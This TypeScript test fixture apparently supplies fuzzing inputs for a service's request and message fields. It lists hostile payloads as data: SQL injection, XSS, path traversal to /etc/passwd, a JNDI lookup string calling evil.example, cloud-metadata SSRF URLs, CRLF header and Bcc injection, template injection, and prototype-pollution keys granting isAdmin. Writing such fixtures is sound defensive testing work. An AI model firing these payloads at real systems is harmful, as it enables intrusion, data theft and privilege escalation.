/** What fields of requests and messages are filled with by mistake or with bad intentions. */

/** A secret, which must be in no log and in no other caller's answer. */
export const secret = 'secret-of-the-fuzz';

const invisible = [
  '\0',
  '\u0001',
  '\u001b[2J\u001b[31mred',
  '\u009b31mred',
  '\u007f',
  '\u0085',
  '\u00ad',
  '\u200b',
  'a\u200db',
  '\u202eevil',
  '\u2066evil\u2069',
  '\u2028',
  '\u3000',
  '\ufeff',
  '\ufe0f',
  '\u{e0041}',
];
const notWellFormed = ['\ud800', '\udc00\ud800', 'a\udfff', '\ud83c'];
const lookAlikes = [
  'e\u0301',
  '\u00e9',
  '\u212b',
  'ﬃ',
  'ſ',
  'İ',
  'ı',
  'ß',
  'ﷺ',
  'аda',
  '𝒶𝒹𝒶',
  '＠',
  '．',
  `z${'\u0301'.repeat(300)}`,
  '👩‍👩‍👧',
  '🇩🇪',
  '\uffff',
  '\ufffe',
  '\u{10ffff}',
];
const lines = [
  ' ',
  '\t',
  '\n',
  '\r\n',
  'x\r\nSet-Cookie: a=b',
  'x\r\nBcc: victim@example.com',
  'x\n{"level":"ERROR"}',
  'x\r\n\r\n<html>',
];
const templates = [
  '$input.body',
  "$input.path('$')",
  '#set($x = 1)$x',
  '#foreach($i in [1..999999999])x#end',
  "$util.urlDecode('%22')",
  '$context.identity.sourceIp',
  '#stop',
  '#[[x]]#',
  '$..*',
  "$['a']",
  '{{7*7}}',
  '$' + '{7*7}',
  '<%= 7*7 %>',
  '$' + '{jndi:ldap://evil.example/a}',
  '<aws.events.event.json>',
];
const expressions = [
  ':v0',
  '#name',
  'attribute_exists(PK) OR 1 = 1',
  'SET PK = :x REMOVE SK',
  'CUSTOMER#ada',
  '#ORDER#0',
  'FAILED#x',
  'USER#x',
  'ANONYMOUS',
  'PRODUCTS',
  '&Action=DeleteQueue&',
  '%26Action%3DDeleteQueue',
  '+%2B%20',
  "'; DROP TABLE users; --",
  '"',
  "'",
  '\\',
  '\\"',
  '\\u0022',
  '","isAdmin":true,"x":"',
  '"}],"Limit":9999,"x":[{"y":"',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..%2f..%2f',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '%s%n%x',
  '%',
];
const addresses = [
  'a@b',
  '@@@',
  'a@b.c\n',
  'a@b.c\r\nBcc: victim@example.com',
  'a@b.c,d@e.f',
  'a@b.c, d',
  'Ada <a@b.c>',
  '<a@b.c>',
  '"a b"@b.c',
  'a(comment)@b.c',
  'a@b.c;',
  'a@[127.0.0.1]',
  'a@b..c',
  'a@.b.c',
  'a@b.c.',
  'a\0@b.c',
  'a\u200b@b.c',
  'a@b。c',
  'ａ@ｂ.ｃ',
  'a@bücher.example',
  'a@xn--bcher-kva.example',
  `${'a'.repeat(64)}@${'b.'.repeat(90)}c`,
  `${'a.'.repeat(120)}@b.c`,
  `${'ﷺ'.repeat(50)}@b.c`,
  `${secret}@example.com`,
];
const times = [
  '2026-02-30T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-01-01T00:00:00+14:00',
  '9999-12-31T23:59:59-23:59',
  '2026-01-01T00:00:00.000000000000000000000000001Z',
  '2026-01-01',
  'now',
];
const words = ['', 'null', 'undefined', 'NaN', 'Infinity', 'true', '[object Object]', '0', '-1', '1e3', secret];
const long = [
  'x'.repeat(65),
  'x'.repeat(101),
  'x'.repeat(501),
  'x'.repeat(1001),
  'x'.repeat(40_000),
  '🌱'.repeat(101),
  '@'.repeat(20_000),
  `${'a'.repeat(30_000)}!`,
  ' '.repeat(30_000),
];

/** What objects have in JavaScript whatever anybody gave them. */
export const prototypes = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

export const strings: readonly string[] = [
  ...words,
  ...invisible,
  ...notWellFormed,
  ...lookAlikes,
  ...lines,
  ...templates,
  ...expressions,
  ...addresses,
  ...times,
  ...prototypes,
  ...long,
];

const numbers = [
  ...['0', '-0', '-1', '1.5', '0.1', '0.00001', '99999999999.9999', '100000000000', '0.30000000000000004', '-0.0'],
  ...['1e308', '1e-308', '5e-324', '1e999', '-1E+999', '9007199254740993', '2147483648', '1000001'],
  ...['123456789012345678901234567890', '1.00000000000000000000000000000000000001', `1${'0'.repeat(500)}`],
];
const depth = 10_000;
/** Deeper than anybody reads. */
export const deep: readonly string[] = [
  '['.repeat(depth) + ']'.repeat(depth),
  `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
];
const others = [
  ...['null', 'true', 'false', '[]', '{}', '[[]]', '[{}]', '[null]', '{"length":1}', '{"S":"x"}', '{"N":"1"}'],
  ...prototypes.map((name) => `{"${name}":{"isAdmin":true}}`),
  ...deep,
];

/** Values of a JSON field, as they are written: numbers may be some that no `JSON.stringify` makes. */
export const jsonValues: readonly string[] = [
  ...strings.map((value) => JSON.stringify(value)),
  // The same as a lax client writes it, which is not JSON for control characters and not UTF-8 for lone surrogates.
  ...[...invisible, ...lines, ...notWellFormed].map((value) => `"${value}"`),
  ...numbers,
  ...others,
];

/** Fields that are the services' own: a client that sets them wants more than it may have. */
export const foreignFields: readonly string[] = [
  ...prototypes,
  ...['PK', 'SK', 'GSI1PK', 'GSI1SK', 'OrdersPlaced', 'Status', 'OrderId', 'CreatedAt', 'Username', 'isAdmin', 'role'],
  ...['id', 'owner', 'ownerAndState', 'createdAt', 'updatedAt', 'version', 'writeId', 'catalogue'],
  ...['userId', 'messageId', 'request_id', 'is_delivered', 'state', 'last_updated', '', ' ', '\u0000', '🌱', '$ne'],
];
